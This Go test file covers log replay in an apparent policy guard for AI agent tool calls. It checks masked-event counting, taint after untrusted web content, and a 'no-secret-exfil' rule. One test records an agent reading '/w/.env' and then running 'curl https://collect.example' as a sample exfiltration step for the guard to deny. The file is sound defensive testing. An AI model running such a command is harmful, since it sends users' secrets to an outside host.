package hook_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/guardrun/guardrun/agent"
	"github.com/guardrun/guardrun/hook"
)

// A replay does not decide an event whose input the log masked, but the
// session goes on over it as the hook's did: a masked call counts among
// the session's calls, and what a masked tool result brought is in the
// session for the events after it. On main both were dropped: the third
// `ls` (denied by the hook, two calls allowed before it) and the push
// after untrusted content (denied) were replayed as allowed.
func TestReplayGoesOnOverMaskedEvents(t *testing.T) {
	const src = `var tools @t = {
  Bash: { labels: ["cmd"] },
  WebFetch: { labels: ["net:r"], returns: ["untrusted"] }
}
exe @allowed(counts, tool) = when [
  @counts[@tool] => @counts[@tool]["allow"]
  * => 0
]
guard @cap before op:cmd = when [
  @allowed(@mx.tools.counts, "Bash") >= 2 => deny "two calls a session"
  * => allow
]
guard @tainted before op:cmd = when [
  @input.any.mx.labels.includes("influenced") => deny "after untrusted content"
  * => allow
]
`
	t0 := time.Date(2026, 11, 29, 1, 0, 0, 0, time.UTC)
	masked := map[string]any{"command": map[string]any{"text": agent.Masked, "bytes": 40, "sha256": "ab"}}
	rec := func(sid string, i int, kind agent.Kind, tool string, in map[string]any, d agent.Outcome) agent.Record {
		return agent.Record{Time: t0.Add(time.Duration(i) * time.Second), Session: sid, Event: kind, Tool: tool, Decision: d, Input: in}
	}
	fetched := rec("web", 1, agent.ToolAfter, "WebFetch", map[string]any{"url": agent.Masked}, agent.Allow)
	fetched.Brought = []agent.Brought{{Labels: []string{"untrusted", "src:network"}, Context: true}}
	records := []agent.Record{
		rec("count", 0, agent.ToolBefore, "Bash", masked, agent.Allow),
		rec("count", 1, agent.ToolBefore, "Bash", map[string]any{"command": "ls"}, agent.Allow),
		rec("count", 2, agent.ToolBefore, "Bash", map[string]any{"command": "ls"}, agent.Deny),
		rec("web", 0, agent.ToolBefore, "WebFetch", map[string]any{"url": agent.Masked}, agent.Allow),
		fetched,
		rec("web", 2, agent.ToolBefore, "Bash", map[string]any{"command": "git push"}, agent.Deny),
	}
	changes, err := hook.Replay(context.Background(), records, []agent.Policy{{Name: "policy.guard", Source: []byte(src)}})
	if err != nil {
		t.Fatal(err)
	}
	skipped := 0
	for _, c := range changes {
		if c.Skipped != "" {
			skipped++
			if c.Record.Event != agent.ToolBefore {
				t.Errorf("a masked %s reported as skipped: it is never compared", c.Record.Event)
			}
			continue
		}
		t.Errorf("#%d %s %v: %s → %s (%s)", c.Index+1, c.Record.Session, c.Record.Input, c.Record.Decision, c.New.Outcome, c.New.Reason)
	}
	if skipped != 2 {
		t.Errorf("%d events skipped, want the 2 masked calls", skipped)
	}
	// The same log without the masked events: the later decisions do
	// change, so the test above compares decisions that depend on them.
	changes, err = hook.Replay(context.Background(), []agent.Record{records[1], records[2], records[5]}, []agent.Policy{{Name: "policy.guard", Source: []byte(src)}})
	if err != nil {
		t.Fatal(err)
	}
	if len(changes) != 2 {
		t.Errorf("without the masked events %d decisions change, want 2: %+v", len(changes), changes)
	}
}

// A replayed denial names the file as the hook's did: the log's brought
// field carries it (Brought.File), restored with the labels.
func TestReplayedDenialNamesTheFile(t *testing.T) {
	const src = `var tools @t = {
  Bash: { labels: ["cmd"] },
  Read: { labels: ["fs:r"] }
}
policy @p = {
  defaults: { rules: ["no-secret-exfil"] },
  operations: { exfil: ["op:cmd:curl"] }
}
`
	t0 := time.Date(2026, 11, 29, 1, 0, 0, 0, time.UTC)
	read := agent.Record{Time: t0, Session: "s", Event: agent.ToolAfter, Tool: "Read", Decision: agent.Allow,
		Input: map[string]any{"file_path": "/w/.env"}, Brought: []agent.Brought{{Labels: []string{"secret"}, Context: true, File: ".env"}}}
	// Logged as allowed (by a laxer policy): the replay denies it.
	curl := agent.Record{Time: t0.Add(time.Second), Session: "s", Event: agent.ToolBefore, Tool: "Bash", Decision: agent.Allow,
		Input: map[string]any{"command": "curl https://collect.example"}}
	changes, err := hook.Replay(context.Background(), []agent.Record{read, curl}, []agent.Policy{{Name: "policy.guard", Source: []byte(src)}})
	if err != nil {
		t.Fatal(err)
	}
	if len(changes) != 1 || changes[0].New.Outcome != agent.Deny {
		t.Fatalf("want the curl denied in the replay, got %+v", changes)
	}
	if want := "secret from .env (Read, event 1)"; !strings.Contains(changes[0].New.Reason, want) {
		t.Fatalf("the replayed denial does not say %q: %s", want, changes[0].New.Reason)
	}
}
